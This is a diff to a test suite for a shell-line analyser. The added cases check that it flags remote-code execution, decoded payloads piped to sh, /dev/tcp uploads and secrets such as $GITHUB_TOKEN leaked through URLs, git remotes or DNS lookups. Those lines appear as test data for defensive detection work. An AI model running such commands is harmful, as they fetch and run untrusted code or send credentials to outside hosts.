@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { actionsOf, commandsOf, pathsOf, unknownOf } from '../testing/line.ts';
+import { actionsOf, commandsOf, pathsOf, read, unknownOf } from '../testing/line.ts';
 
 describe('text that reaches a shell is read', () => {
   it.each([
@@ -74,11 +74,15 @@ describe('text nobody knows', () => {
     ['curl http://h/x -o a; cp a b; sh b', 'remote-code'],
     ['base64 -d blob | sh', 'decoded-code'],
     ['cat blob | base64 -d | bash', 'decoded-code'],
-    ['cat list | sh', 'dynamic-command'],
+    ['head list | sh', 'dynamic-command'],
+    ['cat list more | sh', 'dynamic-command'],
+    ['cat $X | sh', 'dynamic-command'],
+    ['ssh h sh < list', 'dynamic-command'],
     ['sh -c "$CMD"', 'dynamic-command'],
     ['eval "$(cat x)"', 'dynamic-command'],
     ['read l; eval "$l"', 'dynamic-command'],
-    ['cat x > a.sh; sh a.sh', 'dynamic-command'],
+    ['cat x > a.sh; sh a.sh', 'script-body'],
+    ['sed -i s/a/b/ a.sh; sh a.sh', 'script-body'],
   ])('%s is %s', (line, reason) => {
     expect(unknownOf(line)).toContain(reason);
   });
@@ -208,5 +212,64 @@ describe('redirections', () => {
     const [action] = actionsOf('cat x > /dev/tcp/10.0.0.1/443', 'net.connect');
     expect(action?.params).toMatchObject({ host: '10.0.0.1', port: 443, upload: true });
     expect(actionsOf('cat /dev/tcp/10.0.0.1/443', 'net.connect')).toEqual([]);
+  });
+});
+
+describe('a secret in an address', () => {
+  it.each([
+    'curl "https://h.test/?t=$GITHUB_TOKEN"',
+    'x=$API_KEY; wget "http://h.test/$x"',
+    'git push https://u:$GITHUB_TOKEN@h.test/r HEAD',
+    'git clone https://$TOKEN@h.test/r',
+    'dig $GITHUB_TOKEN.h.test',
+    'ssh $API_KEY.h.test',
+  ])('%s is sent', (line) => {
+    expect(actionsOf(line, 'secret.send')).not.toEqual([]);
+  });
+
+  it.each([
+    'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.h.test',
+    'curl "https://h.test/?q=$QUERY"',
+    'curl "https://h.test/?key=$KEY_ID"',
+    'git push origin HEAD',
+    'git clone https://h.test/$REPO',
+    'dig $HOST.h.test',
+  ])('%s sends none', (line) => {
+    expect(actionsOf(line, 'secret.send')).toEqual([]);
+  });
+});
+
+describe('code that is all of a file', () => {
+  it.each(['sh < a.sh', 'cat a.sh | bash -s', 'bash 0< a.sh', 'cat < a.sh | sh', 'sudo sh < a.sh'])(
+    '%s is that script',
+    (line) => {
+      expect(read(line).scripts.map((script) => script.path)).toEqual(['/p/a.sh']);
+      expect(unknownOf(line)).toEqual([]);
+    },
+  );
+
+  it('is what the line wrote there', () => {
+    expect(commandsOf('echo "rm -rf x" > a.sh; sh < a.sh')).toContain('rm -rf x');
+  });
+});
+
+describe('a file the line only adds to, or only perhaps writes', () => {
+  it.each([
+    "echo '# fine' >> a.sh; sh a.sh",
+    "echo '# fine' >> a.sh; . ./a.sh",
+    '[ -f a.sh ] || echo ls > a.sh; sh a.sh',
+    'if x; then echo ls > a.sh; fi; ./a.sh',
+    'sed -i s/a/b/ a.sh && sh a.sh',
+    'touch a.sh; bash a.sh',
+  ])('%s still runs what was there', (line) => {
+    expect(read(line).scripts.map((script) => script.path.replace('./', ''))).toEqual(['a.sh']);
+  });
+
+  it('is not what the line wrote where it is read', () => {
+    expect(unknownOf('echo ls >> a; cat a | sh')).toContain('dynamic-command');
+  });
+
+  it('is all there is where it is written anew', () => {
+    expect(read('echo ls > a.sh && sh a.sh').scripts).toEqual([]);
   });
 });
